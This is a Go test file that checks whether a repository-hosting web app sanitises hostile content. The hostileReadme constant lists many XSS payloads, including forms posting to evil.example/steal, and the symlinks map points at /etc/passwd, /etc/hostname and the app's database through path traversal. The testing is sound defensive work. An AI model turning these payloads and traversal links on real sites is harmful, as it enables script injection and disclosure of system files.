@@ -1,0 +1,288 @@
+package ui_test
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"io"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"golang.org/x/net/html"
+
+	"github.com/blueprints-hq/blueprints/internal/testenv"
+)
+
+// hostileReadme tries every way Markdown and raw HTML could run script in
+// our origin, or load or submit something from elsewhere.
+const hostileReadme = `# Hostile
+
+<script>alert('script-tag')</script>
+<img src="x" onerror="alert('onerror')">
+[a link](javascript:alert('md-link'))
+<a href="JaVaScRiPt:alert('html-link')">html link</a>
+<javascript:alert('autolink')>
+<svg xmlns="http://www.w3.org/2000/svg"><script>alert('svg')</script><circle onload="alert('svg-onload')"/></svg>
+<iframe src="https://evil.example/frame"></iframe>
+<object data="https://evil.example/x.swf"></object>
+<embed src="https://evil.example/x.swf">
+<form action="https://evil.example/steal"><input name="token"><button formaction="javascript:alert('formaction')">go</button></form>
+<meta http-equiv="refresh" content="0;url=https://evil.example/">
+<base href="https://evil.example/">
+<link rel="stylesheet" href="https://evil.example/x.css">
+<style>body { background: url(https://evil.example/track) }</style>
+<div style="background:url(javascript:alert('style'))" onclick="alert('onclick')">styled</div>
+<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>
+![img](javascript:alert('md-img'))
+![data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)
+`
+
+// activeMarkup returns what in page could run script, load a frame or
+// plugin, restyle or redirect the page, or submit a form elsewhere: every
+// element and attribute beyond the site's own layout (its stylesheet,
+// icon, search form and, on part pages, its scripts from /static/).
+func activeMarkup(page string) []string {
+	var found []string
+	z := html.NewTokenizer(strings.NewReader(page))
+	for {
+		tt := z.Next()
+		if tt == html.ErrorToken {
+			return found
+		}
+		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
+			continue
+		}
+		tok := z.Token()
+		attrs := map[string]string{}
+		for _, a := range tok.Attr {
+			attrs[strings.ToLower(a.Key)] = a.Val
+			v := strings.ToLower(strings.Join(strings.Fields(a.Val), ""))
+			switch {
+			case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "formaction", a.Key == "srcdoc":
+				found = append(found, tok.String())
+			case strings.HasPrefix(v, "javascript:"), strings.HasPrefix(v, "vbscript:"), strings.HasPrefix(v, "data:text"), strings.Contains(v, "evil.example/track"):
+				found = append(found, tok.String())
+			}
+		}
+		own := strings.HasPrefix(attrs["src"], "/static/") || strings.HasPrefix(attrs["href"], "/static/")
+		switch tok.Data {
+		case "script":
+			if !own && attrs["type"] != "importmap" {
+				found = append(found, tok.String())
+			}
+		case "link":
+			if !own {
+				found = append(found, tok.String())
+			}
+		case "form":
+			if attrs["action"] != "/search" {
+				found = append(found, tok.String())
+			}
+		case "meta":
+			if _, ok := attrs["http-equiv"]; ok {
+				found = append(found, tok.String())
+			}
+		case "iframe", "frame", "object", "embed", "base", "style", "svg", "math", "applet":
+			found = append(found, tok.String())
+		}
+	}
+}
+
+// hostileProject pushes a project with a hostile README, files a browser
+// would run (SVG, HTML, XML, JavaScript) and symbolic links pointing out of
+// the repository, next to one real part.
+func hostileProject(t *testing.T) (*site, string) {
+	t.Helper()
+	testenv.RequireTool(t, "git")
+	srv := testenv.StartServer(t, testenv.Options{})
+	s := &site{srv: srv, token: srv.AddUser(t, owner), work: t.TempDir()}
+	dir := filepath.Join(s.work, "hostile")
+	write := func(name, content string) {
+		t.Helper()
+		p := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write("README.md", hostileReadme)
+	write("docs/notes.md", hostileReadme)
+	write("active/evil.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert('svg')"><script>alert('svg')</script></svg>`)
+	write("active/evil.html", `<!doctype html><script>alert('html')</script>`)
+	write("active/evil.htm", `<html><body onload="alert('htm')"></body></html>`)
+	write("active/evil.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert('xhtml')</script></html>`)
+	write("active/evil.xml", `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert('xml')</x:script>`)
+	write("active/evil.js", `alert('js')`)
+	write("active/evil.txt", `<html><script>alert('sniffed')</script></html>`)
+	write("active/noext", `<!doctype html><script>alert('noext')</script>`)
+	part, err := os.ReadFile(filepath.Join(testenv.ModuleRoot(t), "testdata/corpus/prusa3d__Original-Prusa-i3/Printed-Parts/STL/plug-aligner.stl"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	write("parts/real.stl", string(part))
+	testenv.Git(t, "", "init", "-q", "-b", "main", dir)
+	for link, target := range symlinks {
+		p := filepath.Join(dir, link)
+		os.MkdirAll(filepath.Dir(p), 0o755)
+		if err := os.Symlink(target, p); err != nil {
+			t.Fatal(err)
+		}
+	}
+	s.commitAndPush(t, dir, "hostile", "hostile content")
+	s.waitCatalogued(t, "hostile")
+	return s, dir
+}
+
+// symlinks are the links pushed, by path, with their targets: out of the
+// repository, into the data folder, and to a real part.
+var symlinks = map[string]string{
+	"links/passwd.stl":   "/etc/passwd",
+	"links/up.txt":       "../../../../../../../../etc/passwd",
+	"links/db.txt":       "../../../blueprints.db",
+	"links/etc":          "/etc",
+	"links/README.md":    "/etc/passwd",
+	"links/same.stl":     "../parts/real.stl",
+	"links/hostname.txt": "/etc/hostname",
+}
+
+func TestHostileContent(t *testing.T) {
+	s, _ := hostileProject(t)
+	base := s.srv.URL + "/" + owner + "/hostile"
+
+	t.Run("markdown", func(t *testing.T) {
+		// The checker itself must see the attacks in the unsanitised text.
+		if n := len(activeMarkup(hostileReadme)); n < 15 {
+			t.Fatalf("activeMarkup finds only %d attacks in the raw README", n)
+		}
+		for _, page := range []string{base, base + "/blob/main/docs/notes.md"} {
+			code, body, h := get(t, page, nil)
+			if code != 200 || !strings.Contains(body, "Hostile") {
+				t.Fatalf("%s: %d\n%s", page, code, body)
+			}
+			if bad := activeMarkup(body); len(bad) > 0 {
+				t.Errorf("%s: active markup survived:\n%s", page, strings.Join(bad, "\n"))
+			}
+			csp := h.Get("Content-Security-Policy")
+			for _, want := range []string{"default-src 'self'", "script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"} {
+				if !strings.Contains(csp, want) {
+					t.Errorf("%s: CSP %q lacks %q", page, csp, want)
+				}
+			}
+			if strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval") {
+				t.Errorf("%s: CSP %q allows inline or eval'd script", page, csp)
+			}
+			if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Referrer-Policy") == "" {
+				t.Errorf("%s: security headers missing: %v", page, h)
+			}
+		}
+	})
+
+	t.Run("raw", func(t *testing.T) {
+		for _, name := range []string{"evil.svg", "evil.html", "evil.htm", "evil.xhtml", "evil.xml", "evil.js", "evil.txt", "noext"} {
+			u := base + "/raw/main/active/" + name
+			code, body, h := get(t, u, nil)
+			if code != 200 || !strings.Contains(body, "alert(") {
+				t.Fatalf("%s: %d %q, want the file's bytes", u, code, body)
+			}
+			ct := strings.ToLower(h.Get("Content-Type"))
+			if ct == "" || strings.Contains(ct, "html") || strings.Contains(ct, "svg") || strings.Contains(ct, "xml") || strings.Contains(ct, "javascript") {
+				t.Errorf("%s: served as %q, which a browser would run", name, ct)
+			}
+			csp := h.Get("Content-Security-Policy")
+			if !strings.Contains(csp, "sandbox") || !strings.Contains(csp, "default-src 'none'") {
+				t.Errorf("%s: CSP %q, want a sandbox that allows nothing", name, csp)
+			}
+			if h.Get("X-Content-Type-Options") != "nosniff" {
+				t.Errorf("%s: no nosniff", name)
+			}
+		}
+	})
+
+	t.Run("symlinks", func(t *testing.T) {
+		for link, target := range symlinks {
+			code, body, h := get(t, base+"/raw/main/"+link, nil)
+			if code != 200 || body != target {
+				t.Errorf("raw %s: %d %q, want the link's own text %q", link, code, body, target)
+			}
+			if strings.Contains(body, "root:") {
+				t.Errorf("raw %s: served the target's content", link)
+			}
+			if !strings.HasPrefix(h.Get("Content-Type"), "text/plain") {
+				t.Errorf("raw %s: served as %q", link, h.Get("Content-Type"))
+			}
+			code, body, _ = get(t, base+"/blob/main/"+link, nil)
+			if code != 200 || !strings.Contains(body, "Symbolic link to") || strings.Contains(body, "root:x:0") || strings.Contains(body, "class=\"viewer\"") {
+				t.Errorf("blob page of %s: %d\n%s", link, code, body)
+			}
+		}
+		for _, p := range []string{"/raw/main/links/etc/passwd", "/blob/main/links/etc/passwd", "/tree/main/links/etc"} {
+			if code, body, _ := get(t, base+p, nil); code == 200 || strings.Contains(body, "root:x:0") {
+				t.Errorf("%s through a link to /etc: %d", p, code)
+			}
+		}
+		if code, body, _ := get(t, base+"/tree/main/links", nil); code != 200 || !strings.Contains(body, "passwd.stl") {
+			t.Errorf("tree of links: %d", code)
+		}
+		// The project page lists no linked part, and the catalog measured
+		// only the real one.
+		code, body, _ := get(t, s.srv.URL+"/api/v1/projects/"+owner+"/hostile", nil)
+		if code != 200 {
+			t.Fatalf("API: %d %s", code, body)
+		}
+		var proj struct {
+			Parts []struct {
+				Path string `json:"path"`
+			} `json:"parts"`
+		}
+		if err := json.Unmarshal([]byte(body), &proj); err != nil {
+			t.Fatalf("API: %v\n%s", err, body)
+		}
+		var paths []string
+		for _, p := range proj.Parts {
+			paths = append(paths, p.Path)
+		}
+		if len(paths) != 1 || paths[0] != "parts/real.stl" {
+			t.Errorf("catalogued parts %v, want only parts/real.stl (links are not parts)", paths)
+		}
+	})
+
+	t.Run("archive", func(t *testing.T) {
+		code, body, _ := get(t, base+"/archive/main.zip", nil)
+		if code != 200 {
+			t.Fatalf("archive: %d", code)
+		}
+		zr, err := zip.NewReader(bytes.NewReader([]byte(body)), int64(len(body)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen := map[string]bool{}
+		for _, f := range zr.File {
+			rc, err := f.Open()
+			if err != nil {
+				t.Fatal(err)
+			}
+			data, _ := io.ReadAll(rc)
+			rc.Close()
+			if strings.Contains(string(data), "root:x:0") {
+				t.Errorf("archive entry %s holds /etc/passwd", f.Name)
+			}
+			rel := strings.TrimPrefix(f.Name, "hostile-main/")
+			target, isLink := symlinks[rel]
+			if !isLink {
+				continue
+			}
+			seen[rel] = true
+			if f.Mode()&fs.ModeSymlink == 0 || string(data) != target {
+				t.Errorf("archive entry %s: mode %v, content %q; want a link to %q", rel, f.Mode(), data, target)
+			}
+		}
+		if len(seen) != len(symlinks) {
+			t.Errorf("archive has %d of %d links", len(seen), len(symlinks))
+		}
+	})
+}
